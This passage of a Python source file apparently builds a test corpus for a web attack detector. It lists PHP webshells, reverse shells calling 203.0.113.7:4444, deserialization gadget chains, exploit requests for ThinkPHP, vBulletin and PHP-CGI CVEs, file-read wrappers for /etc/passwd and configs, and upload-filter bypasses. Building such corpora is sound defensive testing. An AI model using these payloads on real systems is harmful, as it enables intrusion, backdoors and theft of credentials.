    # Persian and Russian request keys ("دستور", "команда" = command), PHP 5-8
    "<?php system($_REQUEST['دستور']); ?>",
    "<?php passthru($_GET['команда']); ?>",
    # variable names in the author's script: PHP identifiers accept bytes 0x80-0xff, PHP 5-8
    "<?php $lệnh=$_GET['c'];system($lệnh);?>",
    "<?php $命令=$_GET['c'];echo `$命令`;?>",
    "<?php $команда=$_POST['k'];passthru($команда);?>",
    # Turkish password-gated shell ("sifre" = password)
    "<?php if(isset($_POST['sifre'])&&$_POST['sifre']=='turk1453'){system($_POST['komut']);} ?>",
    # script-language tag, PHP 5 only
    "<script language=\"php\">@eval($_POST['a']);</script>",
    # shortest echo-tag backtick shell, PHP 5.4+
    "<?=`$_GET[0]`?>",
    # shell writer ("写马"): drop a one-liner next to the vulnerable file, PHP 5-8
    "<?php fputs(fopen('shell.php','w'),'<?php @eval($_POST[c]);?>');?>",
    "<?php file_put_contents('x.php',base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWzFdKTs/Pg=='));?>",
    # image trojan ("图片马"): GIF header to pass getimagesize(), then code for a later include
    "GIF89a<?php eval($_POST['cmd']); ?>",
    # the phpinfo probe every scene sends first
    "<?php phpinfo();?>",
    # Indonesian deface-and-prove one-liner
    "<?php echo 'Hacked by Indonesian Cyber Team<br>';system('id');?>",
    # Behinder (冰蝎) v3 PHP shell: AES-encrypted body, key = md5('rebeyond')[0:16]
    "<?php @error_reporting(0);session_start();$key=\"e45e329feb5d925b\";$_SESSION['k']=$key;"
    "$post=file_get_contents(\"php://input\");$post=openssl_decrypt($post,\"AES128\",$key);"
    "$arr=explode('|',$post);$func=$arr[0];$params=$arr[1];class C{public function __invoke($p){eval($p.\"\");}}"
    "@call_user_func(new C(),$params);?>",
    # Godzilla (哥斯拉) PHP XOR shell, pass 'pass', key = md5('key')[0:16]
    "<?php @session_start();@set_time_limit(0);@error_reporting(0);function encode($D,$K){for($i=0;$i<strlen($D);"
    "$i++){$c=$K[$i+1&15];$D[$i]=$D[$i]^$c;}return $D;}$pass='pass';$payloadName='payload';$key='3c6e0b8a9c15224a';"
    "if(isset($_POST[$pass])){$data=encode(base64_decode($_POST[$pass]),$key);if(isset($_SESSION[$payloadName]))"
    "{$payload=encode($_SESSION[$payloadName],$key);eval($payload);}else{$_SESSION[$payloadName]=$data;}}?>",
    # WSO 2.x header (Russian origin, Windows-1251 charset, md5('root') password)
    "<?php $auth_pass=\"63a9f0ea7bb98050796b649e85481845\";$color=\"#df5\";$default_action='FilesMan';"
    "$default_use_ajax=true;$default_charset='Windows-1251';@ini_set('error_log',NULL);@ini_set('log_errors',0);",
    # r57-style command box (Russian)
    "<?php /* r57shell */ if(!empty($_POST['cmd'])){echo \"<pre>\";system($_POST['cmd']);echo \"</pre>\";}?>",
    # IndoXploit-style exe() helper (Indonesian)
    "<?php function exe($c){if(function_exists('system')){@ob_start();@system($c);$b=@ob_get_contents();"
    "@ob_end_clean();return $b;}}if(isset($_GET['cmd'])){echo '<pre>'.exe($_GET['cmd']).'</pre>';}?>",
    # b374k-style login gate (Indonesian), sha1 of the password
    "<?php $s_pass=\"fb621f5060b9f65acf8eb4232e3024140dea2b34\";if(sha1($_POST['pass'])==$s_pass)"
    "{eval($_POST['code']);}?>",
]

# php-function-call: code for an eval()/assert() sink or a product's code-injection point, no open tag
FUNCTION_CALL: list[Entry] = [
    # the plain calls every scene tries first, PHP 5-8 eval sink
    "system('whoami');",
    "passthru('cat /etc/passwd');",
    "echo shell_exec('ls -la /www/wwwroot');",
    # Windows hosts (Chinese IIS+PHP stacks): user list through exec
    "exec('net user',$o);print_r($o);",
    "$p=popen('id','r');echo fread($p,4096);",
    # reverse shell through proc_open (Russian back-connect habit)
    "proc_open('bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"',array(),$pipes);",
    "assert('system(\"id\")');",
    "eval($_POST['x']);",
    # create_function body injection (Chinese CTF classic), PHP 5-7.1
    "create_function('', 'system(\"id\");');",
    "1;}system('id');/*",
    # preg_replace /e and mb_ereg_replace 'e', PHP 5
    "preg_replace('/.*/e','system(\"id\")','x');",
    "preg_replace(\"/test/e\",$_GET['h'],\"jutst test\");",
    "mb_ereg_replace('.*',$_REQUEST['c'],'','e');",
    # complex curly syntax in a double-quoted sink (ThinkPHP 2.x, Discuz! templates)
    "${@eval($_POST[1])}",
    "{${phpinfo()}}",
    # callbacks that take a function name, PHP 5-8
    "call_user_func('system','id');",
    "array_map('assert',array('phpinfo()'));",
    "usort(...$_GET);",
    "register_shutdown_function('system','id');",
    "array_filter(array('id'),'system');",
    "ob_start('system');echo 'id';ob_end_flush();",
    "(new ReflectionFunction('system'))->invoke('id');",
    # ThinkPHP 5.0.x/5.1.x invokefunction RCE (the most-scanned Chinese framework bug)
    (raw("s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=whoami"),
     "query", "rs-query"),
    (raw("s=index/\\think\\Request/input&filter=system&data=id"), "query", "rs-query"),
    (raw("s=/index/\\think\\template\\driver\\file/write&cacheFile=shell.php&content=%3C?php%20phpinfo();?%3E"),
     "query", "rs-query"),
    # ThinkPHP 5.0.23 Request::__construct method override
    (raw("_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id"), "form", "rs-raw-body"),
    # vBulletin 5 widget_php RCE (CVE-2019-16759, popular on Turkish and Iranian forums)
    (raw("routestring=ajax/render/widget_php&widgetConfig[code]=echo%20shell_exec('id');%20exit;"),
     "form", "rs-raw-body"),
    (raw("routestring=ajax/render/widget_tabbedcontainer_tab_panel&subWidgets[0][template]=widget_php"
         "&subWidgets[0][config][code]=phpinfo();"), "form", "rs-raw-body"),
]

# php-variable-functions: the function name built from strings, then called through a variable
VARIABLE_FUNCTIONS: list[Entry] = [
    # string splitting and reversing, PHP 5-8
    "$a='sys'.'tem';$a('id');",
    "$f=strrev('metsys');$f('whoami');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=hex2bin('73797374656d');$f('uname -a');",
    "$a=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$a('id');",
    "$a=explode(',','sys,tem');$b=implode($a);$b('id');",
    # AntSword default shell: assert from base64
    "$ant=base64_decode(\"YXNzZXJ0\");$ant($_POST['ant']);",
    # name and argument both from the request
    "$_GET['a']($_GET['b']);",
    "$_POST[0]($_POST[1]);",
    "${'_GET'}['f']($_GET['c']);",
    "$GLOBALS['_GET']['x']($GLOBALS['_GET']['y']);",
    "[$_GET['f']][0]($_GET['c']);",
    "call_user_func($_GET['f'],$_GET['a']);",
    # PHP 7 string calls
    "('sy'.'stem')('id');",
    '"\\x73\\x79\\x73\\x74\\x65\\x6d"("id");',
    # variable names in the author's script (Chinese, Turkish, Indonesian, Russian, Persian, Vietnamese)
    "$函数='system';$函数('id');",
    "$işlev='sys'.'tem';$işlev('id');",
    "$fungsi='pass'.'thru';$fungsi($_GET['perintah']);",
    "$функция='shell_exec';echo $функция('uname -a');",
    "$تابع='system';$تابع($_GET['c']);",
    "$hàm='exec';echo $hàm('id');",
    # XOR-built "_GET" from non-letters (phith0n's no-letters trick), PHP 5-7
    "${\"`{{{\"^\"?<>/\"}[_](${\"`{{{\"^\"?<>/\"}[__]);",
    # bitwise-NOT strings: (~'system')(~'id') as raw bytes, PHP 7
    latin("(~\x8c\x86\x8c\x8b\x9a\x92)(~\x96\x9b);"),
    # XOR of control bytes with '`' spells assert and _POST, PHP 5-7.1
    latin("$_=('\x01'^'`').('\x13'^'`').('\x13'^'`').('\x05'^'`').('\x12'^'`').('\x14'^'`');"
          "$__='_'.('\x0d'^']').('\x2f'^'`').('\x0e'^']').('\x09'^']');$___=$$__;$_($___[_]);"),
    # increment-only shell from "Array" (no letters, no digits), PHP 5-7.1
    _increment_shell(),
]

# php-wrappers: stream wrappers handed to include/file_get_contents/fopen/unserialize sinks
WRAPPERS: list[Entry] = [
    # source disclosure through php://filter (the first step in every Chinese CTF write-up)
    "php://filter/read=convert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode/resource=../application/database.php",
    "php://filter/read=convert.base64-encode/resource=/www/wwwroot/default/config.php",
    "php://filter/read=convert.base64-encode/resource=data/common.inc.php",
    "php://filter/read=convert.base64-encode/resource=bitrix/.settings.php",
    "php://filter/read=string.rot13/resource=config.php",
    "PHP://FilTer/read=convert.base64-encode/resource=wp-config.php",
    "php://filter/convert.iconv.UTF-8.UTF-7/resource=flag.php",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=flag.php",
    "php://filter/resource=file:///etc/passwd",
    # file_put_contents('<?php exit;' . $content) bypass: decode the prefix away (phith0n's write-up)
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "php://filter/string.strip_tags|convert.base64-decode/resource=shell.php",
    # php://input with the code in the body; double base64 through data://
    "php://input",
    "php://filter/convert.base64-decode/resource=data://text/plain;base64,UEQ5d2FIQWdjR2h3YVc1bWJ5Z3BPejgr",
    # data:// code for include() with allow_url_include=On
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system('whoami');?>",
    # phar:// deserialization and phar-in-a-JPEG (upload avatar, then touch it)
    "phar://uploads/avatar.jpg/shell.php",
    "phar:///var/www/html/upload/20240601/a.gif",
    "compress.zlib://phar:///tmp/x.phar/test.txt",
    # expect:// command execution
    "expect://id",
    "expect://ls%20-la",
    # zip:// with the inner file after '#' (encoded and plain)
    "zip://uploads/shell.jpg%23shell.php",
    "zip:///var/www/html/upload/x.zip#x.php",
    # glob:// directory listing past open_basedir (Chinese CTF)
    "glob:///var/www/html/*",
    # ssh2.exec:// command through the ssh2 extension
    "ssh2.exec://root:toor@127.0.0.1:22/id",
]

# php-object-injection: serialized objects for unserialize() sinks (product POP chains and CTF tricks)
OBJECT_INJECTION: list[Entry] = [
    # Laravel PendingBroadcast -> Dispatcher -> system (PHP >= 7.2 public-name form, then the NUL form)
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:6:\"events\";O:28:\"Illuminate\\Events\\Dispatcher\":"
    "1:{s:9:\"listeners\";a:1:{s:6:\"whoami\";a:1:{i:0;s:6:\"system\";}}}s:5:\"event\";s:6:\"whoami\";}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";"
    "O:28:\"Illuminate\\Events\\Dispatcher\":1:{s:12:\"\x00*\x00listeners\";a:1:{s:2:\"id\";a:1:{i:0;"
    "s:6:\"system\";}}}s:8:\"\x00*\x00event\";s:2:\"id\";}",
    # Yii2 BatchQueryResult -> Faker Generator -> CreateAction (Chinese CTF favourite)
    "O:23:\"yii\\db\\BatchQueryResult\":1:{s:36:\"\x00yii\\db\\BatchQueryResult\x00_dataReader\";"
    "O:15:\"Faker\\Generator\":1:{s:13:\"\x00*\x00formatters\";a:1:{s:5:\"close\";a:2:{i:0;"
    "O:21:\"yii\\rest\\CreateAction\":2:{s:11:\"checkAccess\";s:6:\"system\";s:2:\"id\";s:15:\"cat /etc/passwd\";}"
    "i:1;s:3:\"run\";}}}}",
    # Typecho 1.0/1.1 install.php __typecho_config (Chinese blog engine), base64 as the cookie carries it
    (raw("__typecho_config=YToyOntzOjc6ImFkYXB0ZXIiO086MTI6IlR5cGVjaG9fRmVlZCI6Mjp7czoxOToiAFR5cGVjaG9fRmVlZABf"
         "dHlwZSI7czo4OiJBVE9NIDEuMCI7czoyMDoiAFR5cGVjaG9fRmVlZABfaXRlbXMiO2E6MTp7aTowO2E6MTp7czo2OiJhdXRob3IiO086"
         "MTU6IlR5cGVjaG9fUmVxdWVzdCI6Mjp7czoyNDoiAFR5cGVjaG9fUmVxdWVzdABfcGFyYW1zIjthOjE6e3M6MTA6InNjcmVlbk5hbWUi"
         "O3M6NTQ6ImZpbGVfcHV0X2NvbnRlbnRzKCdwLnBocCcsJzw/cGhwIEBldmFsKCRfUE9TVFtjXSk7Pz4nKSI7fXM6MjQ6IgBUeXBlY2hv"
         "X1JlcXVlc3QAX2ZpbHRlciI7YToxOntpOjA7czo2OiJhc3NlcnQiO319fX19czo2OiJwcmVmaXgiO3M6ODoidHlwZWNob18iO30="),
     "cookie", "rs-cookie"),
    # Monolog SyslogUdpHandler -> BufferHandler -> system (phpggc Monolog/RCE1)
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\x00*\x00socket\";O:29:\"Monolog\\Handler\\BufferHandler\":7:"
    "{s:10:\"\x00*\x00handler\";N;s:13:\"\x00*\x00bufferSize\";i:-1;s:9:\"\x00*\x00buffer\";a:1:{i:0;a:2:{i:0;"
    "s:2:\"id\";s:5:\"level\";N;}}s:8:\"\x00*\x00level\";N;s:14:\"\x00*\x00initialized\";b:1;"
    "s:14:\"\x00*\x00bufferLimit\";i:-1;s:13:\"\x00*\x00processors\";a:2:{i:0;s:7:\"current\";i:1;s:6:\"system\";}}}",
    # Guzzle FileCookieJar file write (phpggc Guzzle/FW1)
    "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":4:{s:41:\"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename\";"
    "s:27:\"/var/www/html/uploads/x.php\";s:52:\"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies\";b:1;"
    "s:36:\"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies\";a:1:{i:0;O:27:\"GuzzleHttp\\Cookie\\SetCookie\":1:{"
    "s:33:\"\x00GuzzleHttp\\Cookie\\SetCookie\x00data\";a:3:{s:7:\"Expires\";i:1;s:7:\"Discard\";b:0;s:5:\"Value\";"
    "s:27:\"<?php system($_GET['c']);?>\";}}}s:39:\"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode\";N;}",
    # SoapClient SSRF with CRLF in the user agent (LCTF bestphp style)
    "O:10:\"SoapClient\":4:{s:3:\"uri\";s:1:\"x\";s:8:\"location\";s:25:\"http://127.0.0.1/flag.php\";"
    "s:11:\"_user_agent\";s:75:\"x\r\nCookie: PHPSESSID=tcjr2bj4f8ik1onvs0e9fd8d71\r\nX-Forwarded-For: 127.0.0.1\";"
    "s:13:\"_soap_version\";i:1;}",
    # IP.Board 3.x member_id cookie, '+' before the length to pass the O:\d check (Russian forums used it)
    (raw("member_id=a:1:{i:0;O:+15:\"db_driver_mysql\":1:{s:3:\"obj\";a:2:{s:13:\"use_debug_log\";i:1;"
         "s:9:\"debug_log\";s:12:\"cache/sh.php\";}}}"), "cookie", "rs-cookie"),
    # Chinese CTF tricks: '+' length, __wakeup skipped by a larger property count (CVE-2016-7124), S: hex escape
    "O:+4:\"Demo\":1:{s:4:\"file\";s:8:\"flag.php\";}",
    "O:4:\"Demo\":2:{s:4:\"file\";s:8:\"flag.php\";}",
    "O:4:\"Demo\":1:{S:4:\"\\66ile\";s:8:\"flag.php\";}",
    "O:5:\"Admin\":2:{S:10:\"\\00*\\00isAdmin\";b:1;s:8:\"username\";s:5:\"admin\";}",
    # session serialize-handler mismatch: the '|' makes the php handler unserialize the rest (Jarvis OJ)
    "|O:4:\"Evil\":1:{s:3:\"cmd\";s:13:\"system('id');\";}",
    # ArrayObject C: format carrying an object
    "C:11:\"ArrayObject\":40:{x:i:0;a:1:{i:0;O:4:\"Evil\":0:{}};m:a:0:{}}",
    # privilege escalation through a serialized cookie (Turkish e-commerce scripts)
    "a:1:{s:4:\"user\";O:4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}}",
    "O:4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:4:\"role\";s:13:\"administrator\";}",
    # ECShop 2.x/3.x Referer: serialized ads array into SQL into the template engine's eval (Chinese shops)
    ("554fcae493e564ee0dc75bdf2ebf94caads|a:2:{s:3:\"num\";s:281:\"*/SELECT 1,0x2d312720554e494f4e2f2a,2,4,5,6,7,8,"
     "0x7b24617364275d3b617373657274286261736536345f6465636f646528275a6d6c735a56397764585266593239756447567564484d"
     "6f4a7a4575634768774a79776e50443977614841675a585a686243676b58314250553152624d5630704f79412f506963702729293b2f"
     "2f7d787878,10-- -\";s:2:\"id\";s:11:\"-1' UNION/*\";}554fcae493e564ee0dc75bdf2ebf94ca",
     "header:Referer", "rs-header:Referer"),
    # Joomla 1.5-3.4 session object in the User-Agent (CVE-2015-8562), 4-byte character truncates MySQL utf8
    "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}"
    "s:21:\"\\0\\0\\0disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":5:{s:8:\"sanitize\";"
    "O:20:\"JDatabaseDriverMysql\":0:{}s:8:\"feed_url\";s:59:\"eval(base64_decode($_POST[111]));"
    "JFactory::getConfig();exit\";s:19:\"cache_name_function\";s:6:\"assert\";s:5:\"cache\";b:1;"
    "s:11:\"cache_class\";O:20:\"JDatabaseDriverMysql\":0:{}}i:1;s:4:\"init\";}}"
    "s:13:\"\\0\\0\\0connection\";b:1;}\U0001d306",
    # ThinkPHP 5.1.x Windows -> Pivot -> Request filter chain (__destruct to __toString to filter)
    "O:27:\"think\\process\\pipes\\Windows\":1:{s:34:\"\x00think\\process\\pipes\\Windows\x00files\";a:1:{i:0;"
    "O:17:\"think\\model\\Pivot\":2:{s:9:\"\x00*\x00append\";a:1:{s:3:\"lin\";a:2:{i:0;s:8:\"calc.exe\";i:1;"
    "s:4:\"calc\";}}s:7:\"\x00*\x00data\";a:1:{s:3:\"lin\";O:13:\"think\\Request\":3:{s:7:\"\x00*\x00hook\";a:1:{"
    "s:7:\"visible\";a:2:{i:0;r:9;i:1;s:6:\"isAjax\";}}s:9:\"\x00*\x00filter\";s:6:\"system\";"
    "s:9:\"\x00*\x00config\";a:1:{s:8:\"var_ajax\";s:0:\"\";}}}}}}",
    # phar metadata object smuggled as a query value for a file_exists() sink
    "phar://./upload/avatar.gif/test.txt",
    # WordPress PHPMailer-era object in a plugin option (Indonesian mass-exploit kits)
    "O:8:\"stdClass\":1:{s:4:\"code\";s:30:\"<?php system($_GET['cmd']); ?>\";}",
    # Drupal 7 / generic destructor file delete
    "O:11:\"Archive_Tar\":1:{s:13:\"_temp_tarname\";s:18:\"/var/www/.htaccess\";}",
]

# php-config-directives: auto_prepend_file, allow_url_include and other ini settings set from outside
CONFIG_DIRECTIVES: list[Entry] = [
    # PHP-CGI argument injection (CVE-2012-1823), query string as argv
    (raw("-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"), "query", "rs-query"),
    (raw("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+allow_url_include%3dOn+-d+auto_prepend_file"
         "%3dphp%3A//input"), "query", "rs-query"),
    # CVE-2024-4577: the soft hyphen 0xAD best-fits to '-' under Chinese (936/950) and Japanese (932) code pages
    (raw("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"), "query", "rs-query"),
    (raw("%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env%3d0+%ADd+auto_prepend_file%3dphp://input"),
     "query", "rs-query"),
    # .user.ini contents (upload-labs style and the BT panel's open_basedir file)
    "auto_prepend_file=1.gif",
    "auto_append_file=/tmp/sess_7d1b0c2e",
    "open_basedir=/",
    # .htaccess contents making images run as PHP (uploaded .htaccess, every scene's upload write-up)
    "AddType application/x-httpd-php .jpg",
    "<FilesMatch \"shell\">SetHandler application/x-httpd-php</FilesMatch>",
    "php_value auto_prepend_file \"/tmp/sess_abc123\"",
    "php_value auto_append_file data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "php_flag engine on",
    "php_value zend.multibyte 1\nphp_value zend.script_encoding \"UTF-7\"",
    # allow_url_include / allow_url_fopen as pairs an ini-writing admin page stores (raw)
    (raw("allow_url_include=On&allow_url_fopen=On"), "form", "rs-raw-body"),
    (raw("auto_prepend_file=php://input"), "form", "rs-raw-body"),
    # PHP-FPM PHP_VALUE through the path (CVE-2019-11043 "PHuiP-FPizdaM"), nginx fastcgi_split_path_info
    (raw("index.php/PHP_VALUE%0Asession.auto_start=1;;;"), "path", "rs-path"),
    (raw("index.php/PHP_VALUE%0Aauto_prepend_file=a;;;;"), "path", "rs-path"),
    # PHP_VALUE for a FastCGI record (SSRF to an open php-fpm port)
    "PHP_VALUE: auto_prepend_file = php://input\nPHP_ADMIN_VALUE: allow_url_include = On",
    # ini_set at runtime: the open_basedir chdir bypass (Chinese researchers' trick)
    "mkdir('sub');chdir('sub');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');"
    "ini_set('open_basedir','/');echo file_get_contents('/etc/passwd');",
    "ini_set('allow_url_include','1');include('http://x.example.cn/s.txt');",
    # error_log pointed at the web root, then an error carrying code
    "ini_set('error_log','/var/www/html/e.php');error_log('<?php @eval($_POST[c]);?>');",
    # session.upload_progress race: the field value lands in the session file for an LFI
    (raw("PHP_SESSION_UPLOAD_PROGRESS=%3C?php%20system('id');?%3E"), "form", "rs-raw-body"),
    # LD_PRELOAD through putenv, then mail() starts sendmail (disable_functions bypass, Chinese tool habit)
    "putenv('LD_PRELOAD=/tmp/hack.so');mail('a@example.cn','','','');",
    # PHPRC pointing the CGI at stdin as its php.ini
    (raw("PHPRC=/dev/fd/0"), "query", "rs-query"),
    # include_path redirect for a relative include (old hosting panels)
    "php_value include_path \".:/tmp\"",
]

# superglobals: code reading or overwriting $_GET/$_POST/$_COOKIE/$_SERVER/$_FILES/$GLOBALS/$_SESSION
SUPERGLOBALS: list[Entry] = [
    # variable overwrite ("变量覆盖") in DedeCMS/Discuz!-style extract()/register_globals code (raw pairs)
    (raw("GLOBALS[cfg_dbhost]=db.example.cn&GLOBALS[cfg_dbuser]=root&GLOBALS[cfg_dbpwd]=root"), "query",
     "rs-query"),
    (raw("_SESSION[user_id]=1&_SESSION[is_admin]=1"), "query", "rs-query"),
    (raw("_POST[GLOBALS][cfg_dbprefix]=dede_member_"), "form", "rs-raw-body"),
    (raw("_COOKIE[auth]=1&_COOKIE[uid]=1"), "query", "rs-query"),
    (raw("_FILES[upfile][tmp_name]=/etc/passwd&_FILES[upfile][name]=x.txt"), "form", "rs-raw-body"),
    (raw("_SERVER[REMOTE_ADDR]=127.0.0.1"), "query", "rs-query"),
    # code reading commands from headers (the hidden-backdoor habit: nothing in the URL)
    "@eval($_SERVER['HTTP_USER_AGENT']);",
    "@eval($_SERVER['HTTP_X_CMD']);",
    "@eval($_COOKIE['c']);",
    "eval(getallheaders()['Cmd']);",
    # Persian request key ("ما" = we), Turkish key ("sifre")
    "eval($_REQUEST['ما']);",
    "echo system($_REQUEST['sifre']);",
    # extract() and parse_str() overwrites
    "extract($_POST);eval($code);",
    "parse_str($_SERVER['QUERY_STRING']);",
    # CTF dumps: every variable, the environment, the session flag
    "var_dump($GLOBALS);",
    "print_r($_SERVER);",
    "var_dump($_ENV);",
    "echo $_SESSION['flag'];",
    # Indonesian uploader ("Upload sukses" = upload done) built on $_FILES
    "<?php if(isset($_FILES['u'])){copy($_FILES['u']['tmp_name'],$_FILES['u']['name']);echo 'Upload sukses';}?>",
    "move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);",
    # GLOBALS-indexed request read, no $_GET literal
    "$GLOBALS['_POST']['a']($GLOBALS['_POST']['b']);",
    # $_REQUEST in a string interpolation sink
    "{${system($_REQUEST['c'])}}",
    # Russian: command from a cookie key written in Cyrillic
    "system($_COOKIE['команда']);",
    # $_FILES temp file included directly (Chinese CTF)
    "include($_FILES['file']['tmp_name']);",
    # Vietnamese marker in a $_GET echo backdoor
    "/* cửa sau */ echo passthru($_GET['lenh']);",
]

# php-file-upload: upload names that end up executed as PHP (upload-labs passes and their cousins)
FILE_UPLOAD: list[Entry] = [
    ("shell.php", "multipart-filename", "rs-multipart-filename"),
    ("shell.phtml", "multipart-filename", "rs-multipart-filename"),
    ("shell.php5", "multipart-filename", "rs-multipart-filename"),
    ("shell.php3", "multipart-filename", "rs-multipart-filename"),
    ("shell.pht", "multipart-filename", "rs-multipart-filename"),
    ("shell.phar", "multipart-filename", "rs-multipart-filename"),
    ("shell.php7", "multipart-filename", "rs-multipart-filename"),
    ("shell.pHp", "multipart-filename", "rs-multipart-filename"),
    # trailing space, dot and NTFS stream that Windows strips (upload-labs 6-9)
    ("shell.php ", "multipart-filename", "rs-multipart-filename"),
    ("shell.php.", "multipart-filename", "rs-multipart-filename"),
    ("shell.php::$DATA", "multipart-filename", "rs-multipart-filename"),
    ("shell.php. .", "multipart-filename", "rs-multipart-filename"),
    # double-write that a one-pass str_replace('php','') rebuilds (upload-labs 10)
    ("shell.pphphp", "multipart-filename", "rs-multipart-filename"),
    # Apache multi-extension fallback ("1.php.7z") and IIS 6 semicolon parsing
    ("1.php.7z", "multipart-filename", "rs-multipart-filename"),
    ("1.php;.jpg", "multipart-filename", "rs-multipart-filename"),
    ("avatar.php.jpg", "multipart-filename", "rs-multipart-filename"),
    # uploaded server configs
    (".htaccess", "multipart-filename", "rs-multipart-filename"),
    (".user.ini", "multipart-filename", "rs-multipart-filename"),
    # names in the attacker's script (PHP only looks at the extension)
    ("一句话.php", "multipart-filename", "rs-multipart-filename"),
    ("木马.phtml", "multipart-filename", "rs-multipart-filename"),
    ("шелл.php", "multipart-filename", "rs-multipart-filename"),
    ("ảnh-đại-diện.php", "multipart-filename", "rs-multipart-filename"),
    # RFC 5987 name (parsers that take filename* over filename)
    ("filename*=UTF-8''shell.php", "multipart-filename", "rs-multipart-filename"),
    # save_path %00 truncation (upload-labs 11), old PHP
    (raw("save_path=../upload/shell.php%00"), "query", "rs-query"),
    # nginx cgi.fix_pathinfo: an uploaded image executed through a fake .php suffix (Chinese "解析漏洞")
    (raw("uploads/avatar.jpg/.php"), "path", "rs-path"),
    (raw("uploads/avatar.jpg%00.php"), "path", "rs-path"),
]

# php-high-risk-function-names: the file, info and network functions a shell or CTF payload calls
HIGH_RISK: list[Entry] = [
    "phpinfo();",
    "highlight_file(__FILE__);",
    "show_source('flag.php');",
    "echo file_get_contents('/flag');",
    "readfile('/etc/passwd');",
    "print_r(scandir('/'));",
    "var_dump(glob('/*'));",
    "file_put_contents('s.php','<?php @eval($_POST[1]);?>');",
    "chmod('s.php',0777);",
    "unlink('.htaccess');",
    "copy('http://x.example.ru/s.txt','s.php');",
    # packed shells (Russian and Turkish obfuscators)
    "eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA')));",
    "eval(gzinflate(str_rot13(base64_decode('ZlUtWMzRQ4kP8A8OiUkvVSwuSY/VtAYA'))));",
    "eval(gzuncompress(base64_decode('eJwrSCwuLskoKtVQL81LzE1V0E20zkxR17QGAHBTCCE=')));",
    # variables and settings recon
    "print_r(get_defined_vars());",
    "echo getenv('FLAG');",
    "echo ini_get('disable_functions');",
    "print_r(posix_getpwuid(posix_geteuid()));",
    # symlink to neighbour sites' configs (Indonesian and Turkish "symlink bypass" kits)
    "symlink('/home/kurban/public_html/wp-config.php','wp.txt');",
    "symlink('/','root');",
    # back-connect (Indonesian "back connect" tool), PHP sockets
    "$s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
    "$s=stream_socket_client('tcp://203.0.113.7:4444');while($c=fgets($s)){fwrite($s,shell_exec($c));}",
    # disable_functions bypasses
    "imap_open('{x.example.cn:143/imap}INBOX -oProxyCommand=echo\tZWNobyAnMTIzNCcgPiAvdG1wL3Rlc3QwMDAxCg==|base64"
    "\t-d|sh}','','');",
    "FFI::cdef(\"int system(const char *command);\")->system(\"id\");",
    "pcntl_exec('/bin/bash',array('-c','id'));",
    "dl('evil.so');",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JS_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS_EXPRESSION),
    ("xss", "template-literal-dom-sink", DOM_SINK),
    ("xss", "ie-filter-vectors", IE_FILTER),
    ("xss", "encoded-entity-vectors", ENCODED),
    ("xss", "angular-vue-client-templates", CLIENT_TEMPLATE),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT_INJECTION),
    ("php", "php-config-directives", CONFIG_DIRECTIVES),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", FILE_UPLOAD),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "name", "bio", "comment", "title", "content", "file", "page", "callback", "message"]
    rs_paths = ["/", "/index.php", "/forum.php", "/plus/search.php", "/bitrix/admin/index.php", "/search",
                "/wp-admin/admin-ajax.php"]
    rs_names = ["foo", "wd", "keyword", "s", "x", "id"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"   # a raw pair keeps the exploit's own percent-encoding and '+' spaces
    raw_places = ("query", "form", "cookie", "param-name", "path", "rs-query", "rs-form", "rs-cookie",
                  "rs-param-name", "rs-raw-body", "rs-path")
    upload = "GIF89a"   # the image magic an upload carries past a content check; the name is what is measured
    unique = True
    path_forbids = "/?#"
    xml_places = ("xml", "rs-xml", "multipart-field")
    xml_controls = "\n\r\t"

